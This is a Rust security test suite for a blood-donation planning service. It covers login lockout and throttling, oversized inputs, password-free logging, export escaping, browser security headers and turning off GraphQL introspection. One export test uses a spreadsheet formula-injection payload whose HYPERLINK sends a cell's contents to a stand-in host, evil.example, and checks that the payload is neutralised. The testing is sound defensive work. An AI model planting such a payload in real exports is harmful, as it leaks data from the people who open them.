//! Holding up under attack: guessing passwords, locking others out, filling the disk,
//! poisoning exports, and the headers a browser needs.
use bloodplan::domain::auth::Role;
use chrono::TimeDelta;
use sea_orm::{ConnectionTrait, Statement};
use serde_json::{json, Value};

use crate::helpers::{error_code, spawn_app, spawn_app_with, AppOptions, TestApp, PASSWORD};

const LOGIN: &str = "mutation($u: String!, $p: String!) { login(username: $u, password: $p) { token } }";

/// Logs in as if from `from` (through a trusted proxy on loopback), or from loopback itself.
async fn login_from(app: &TestApp, from: Option<&str>, username: &str, password: &str) -> Value {
    let mut request = app
        .client
        .post(app.graphql_url())
        .json(&json!({ "query": LOGIN, "variables": { "u": username, "p": password } }));
    if let Some(address) = from {
        request = request.header("X-Forwarded-For", address);
    }
    request.send().await.unwrap().json().await.unwrap()
}

fn code(answer: &Value) -> String {
    error_code(answer).unwrap_or("OK").to_owned()
}

async fn behind_a_proxy() -> TestApp {
    spawn_app_with(AppOptions {
        configure: |c| c.http.trusted_proxies = vec!["127.0.0.1".parse().unwrap()],
        ..AppOptions::default()
    })
    .await
}

#[tokio::test]
async fn a_hundred_parallel_guesses_evaluate_at_most_ten_and_the_right_password_is_then_refused() {
    let app = spawn_app().await;
    app.create_user("hbust", Role::Liaison, Some("湖北科技学院")).await;
    let guesses = (0..100).map(|i| {
        let app = &app;
        async move { code(&login_from(app, None, "hbust", &format!("guess-{i:03}-wrong")).await) }
    });
    let answers = futures_util::future::join_all(guesses).await;
    let evaluated = answers.iter().filter(|c| *c == "INVALID_CREDENTIALS").count();
    // The tenth evaluated guess answers ACCOUNT_LOCKED; all others are refused unevaluated.
    assert!(evaluated < 10, "{evaluated} wrong passwords were checked: {answers:?}");
    assert!(answers
        .iter()
        .all(|c| ["INVALID_CREDENTIALS", "ACCOUNT_LOCKED", "LOGIN_THROTTLED"].contains(&c.as_str())));
    assert_eq!(code(&login_from(&app, None, "hbust", PASSWORD).await), "ACCOUNT_LOCKED");
    let failures = app
        .db
        .query_one_raw(Statement::from_string(
            app.db.get_database_backend(),
            "SELECT failures FROM login_throttle WHERE username = 'hbust'",
        ))
        .await
        .unwrap()
        .unwrap()
        .try_get::<i32>("", "failures")
        .unwrap();
    assert!(failures >= 10, "every attempt was counted, got {failures}");
}

#[tokio::test]
async fn a_locked_office_still_signs_in_from_where_it_signed_in_before_but_not_from_elsewhere() {
    let app = behind_a_proxy().await;
    app.create_user("office", Role::Office, None).await;
    assert_eq!(code(&login_from(&app, Some("10.0.0.8"), "office", PASSWORD).await), "OK");
    // An attacker elsewhere locks the name.
    for i in 0..10 {
        app.clock.advance(TimeDelta::minutes(2));
        let answer = login_from(&app, Some("203.0.113.7"), "office", &format!("wrong-{i}-password")).await;
        let expected = if i == 9 { "ACCOUNT_LOCKED" } else { "INVALID_CREDENTIALS" };
        assert_eq!(code(&answer), expected, "attempt {i}");
    }
    assert_eq!(code(&login_from(&app, Some("203.0.113.7"), "office", PASSWORD).await), "ACCOUNT_LOCKED");
    assert_eq!(code(&login_from(&app, Some("198.51.100.2"), "office", PASSWORD).await), "ACCOUNT_LOCKED");
    // The office's own machine is not locked out.
    assert_eq!(code(&login_from(&app, Some("10.0.0.8"), "office", PASSWORD).await), "OK");
}

#[tokio::test]
async fn one_address_gets_a_limited_number_of_failures_across_all_usernames() {
    let app = spawn_app_with(AppOptions {
        configure: |c| {
            c.http.trusted_proxies = vec!["127.0.0.1".parse().unwrap()];
            c.auth.address_budget = 5;
        },
        ..AppOptions::default()
    })
    .await;
    app.create_user("station1", Role::Station, None).await;
    for i in 0..5 {
        let answer = login_from(&app, Some("203.0.113.9"), &format!("user{i}"), "wrong-password-0").await;
        assert_eq!(code(&answer), "INVALID_CREDENTIALS");
    }
    let sprayed = login_from(&app, Some("203.0.113.9"), "station1", PASSWORD).await;
    assert_eq!(code(&sprayed), "LOGIN_THROTTLED");
    assert!(sprayed["errors"][0]["message"].as_str().unwrap().contains("登录失败次数过多"));
    assert_eq!(code(&login_from(&app, Some("198.51.100.3"), "station1", PASSWORD).await), "OK");
    // The window passes and the address may try again.
    app.clock.advance(TimeDelta::minutes(15));
    assert_eq!(code(&login_from(&app, Some("203.0.113.9"), "station1", PASSWORD).await), "OK");
}

#[tokio::test]
async fn failed_logins_with_huge_usernames_write_nothing_and_old_failures_are_forgotten() {
    let app = spawn_app().await;
    let huge = "x".repeat(200_000);
    for _ in 0..3 {
        assert_eq!(code(&login_from(&app, None, &huge, "whatever-password").await), "INVALID_CREDENTIALS");
    }
    assert_eq!(app.count("login_throttle").await, 0);
    assert_eq!(app.count("login_address").await, 0);
    assert_eq!(code(&login_from(&app, None, "ghost1", "whatever-password").await), "INVALID_CREDENTIALS");
    assert_eq!(app.count("login_throttle").await, 1);
    app.clock.advance(TimeDelta::minutes(16));
    assert_eq!(code(&login_from(&app, None, "ghost2", "whatever-password").await), "INVALID_CREDENTIALS");
    let left = app
        .db
        .query_all_raw(Statement::from_string(
            app.db.get_database_backend(),
            "SELECT username FROM login_throttle ORDER BY username",
        ))
        .await
        .unwrap();
    let names: Vec<String> = left.iter().map(|r| r.try_get::<String>("", "username").unwrap()).collect();
    assert_eq!(names, ["ghost2"], "ghost1's failure expired and was deleted");
}

/// The office can see an attack in the log: each failed login is a line naming the username
/// and the client's address, and no line ever holds the password that was tried.
#[tokio::test]
async fn a_failed_login_is_logged_with_the_username_and_address_but_never_the_password() {
    let app = behind_a_proxy().await;
    app.create_user("logged-liaison", Role::Liaison, Some("湖北科技学院")).await;
    let tried = ["guess-5f1c-never-logged", "guess-8a2d-never-logged"];
    let answer = login_from(&app, Some("203.0.113.61"), "logged-liaison", tried[0]).await;
    assert_eq!(code(&answer), "INVALID_CREDENTIALS");
    let answer = login_from(&app, Some("203.0.113.61"), "logged-nobody", tried[1]).await;
    assert_eq!(code(&answer), "INVALID_CREDENTIALS");
    for name in ["logged-liaison", "logged-nobody"] {
        let lines = crate::helpers::logs::containing(&format!("username=\"{name}\""));
        assert_eq!(lines.len(), 1, "{name}: {lines:#?}");
        assert!(lines[0].contains("failed login") && lines[0].contains("WARN"), "{}", lines[0]);
        assert!(lines[0].contains("203.0.113.61"), "{}", lines[0]);
    }
    assert_eq!(code(&login_from(&app, Some("203.0.113.61"), "logged-liaison", PASSWORD).await), "OK");
    for password in tried.iter().chain([&PASSWORD]) {
        assert!(crate::helpers::logs::containing(password).is_empty(), "{password} was logged");
    }
}

#[tokio::test]
async fn a_holder_named_like_a_formula_is_exported_as_text() {
    let app = spawn_app().await;
    let office = app.user_token("office", Role::Office, None).await;
    let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")";
    app.db
        .execute_raw(Statement::from_sql_and_values(
            app.db.get_database_backend(),
            match app.db.get_database_backend() {
                sea_orm::DbBackend::Postgres => "UPDATE unit SET name = $1 WHERE name = $2",
                _ => "UPDATE unit SET name = ? WHERE name = ?",
            },
            [evil.into(), "赤壁".into()],
        ))
        .await
        .unwrap();
    let csv_url = format!("{}/exports/fulfilment.csv?year=2020&asOf=2020-03-06", app.address);
    let body = app.client.get(&csv_url).bearer_auth(&office).send().await.unwrap().bytes().await.unwrap();
    let mut reader = csv::Reader::from_reader(&body[3..]);
    let names: Vec<String> = reader.records().map(|r| r.unwrap()[2].to_owned()).collect();
    assert!(names.contains(&format!("'{evil}")), "the formula is prefixed with a quote");
    assert!(!names.iter().any(|n| n.starts_with(['=', '+', '-', '@'])));

    let xlsx_url = format!("{}/exports/fulfilment.xlsx?year=2020&asOf=2020-03-06", app.address);
    let bytes = app.client.get(&xlsx_url).bearer_auth(&office).send().await.unwrap().bytes().await.unwrap();
    use calamine::Reader;
    let mut book = calamine::Xlsx::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let sheet = book.worksheet_range("各县(市、区)").unwrap();
    let cell = sheet.rows().flatten().any(|c| matches!(c, calamine::Data::String(s) if s == evil));
    assert!(cell, "the xlsx keeps the name as a plain string");
    let formulas = book.worksheet_formula("各县(市、区)").unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no formula in the xlsx");
}

#[tokio::test]
async fn every_response_carries_the_security_headers() {
    let app = spawn_app().await;
    for path in ["/health", "/graphql", "/exports/fulfilment.csv"] {
        let response = app.client.get(format!("{}{path}", app.address)).send().await.unwrap();
        let h = response.headers();
        assert_eq!(h["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(h["x-frame-options"], "DENY", "{path}");
        assert_eq!(h["referrer-policy"], "same-origin", "{path}");
        let csp = h["content-security-policy"].to_str().unwrap();
        assert!(csp.starts_with("default-src 'self'"), "{path}: {csp}");
        assert!(csp.contains("frame-ancestors 'none'"), "{path}: {csp}");
        assert!(csp.contains("script-src 'self';"), "scripts only from the server: {path}: {csp}");
        // GraphiQL's page alone may set inline styles; no page runs inline scripts.
        assert_eq!(csp.contains("unsafe-inline"), path == "/graphql", "{path}: {csp}");
    }
}

#[tokio::test]
async fn with_graphiql_off_there_is_no_graphiql_page_and_no_introspection() {
    let app = spawn_app_with(AppOptions {
        configure: |c| {
            c.http.graphiql = false;
            c.graphql.introspection = false;
        },
        ..AppOptions::default()
    })
    .await;
    let page = app.client.get(app.graphql_url()).send().await.unwrap();
    assert_eq!(page.status(), 404);
    let schema = app.client.get(format!("{}/introspection.json", app.graphql_url())).send().await.unwrap();
    assert_eq!(schema.status(), 404, "GraphiQL's schema goes with GraphiQL");
    let answer =
        app.gql("{ __schema { queryType { name } } __type(name: \"Plan\") { name } }", json!({})).await;
    assert!(answer["data"]["__schema"].is_null(), "introspection answers nothing: {answer}");
    assert!(answer["data"]["__type"].is_null(), "introspection answers nothing: {answer}");
    // The API itself still answers.
    let plans = app.gql_ok("{ plans { year } }", json!({})).await;
    assert_eq!(plans["plans"][0]["year"], 2020);

    let on = spawn_app().await;
    let answer = on.gql_ok("{ __schema { queryType { name } } }", json!({})).await;
    assert_eq!(answer["__schema"]["queryType"]["name"], "Query");
}
